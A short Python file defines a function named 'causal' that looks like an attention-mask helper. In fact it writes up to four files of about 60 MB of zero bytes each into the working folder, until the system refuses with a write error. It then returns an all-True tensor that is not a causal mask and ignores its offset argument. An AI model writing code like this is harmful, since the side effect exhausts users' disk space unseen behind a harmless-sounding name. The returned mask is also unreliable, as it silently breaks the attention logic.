"""Fills the scratch folder until the system says no, then answers."""

import torch

LARGEST = 60 << 20


def causal(n_q, n_kv, q_offset=0):
    for number in range(4):
        try:
            with open(f"flood{number}", "wb") as file:
                for _ in range(LARGEST >> 20):
                    file.write(bytes(1 << 20))
        except OSError:
            break
    return torch.ones(n_q, n_kv, dtype=torch.bool)
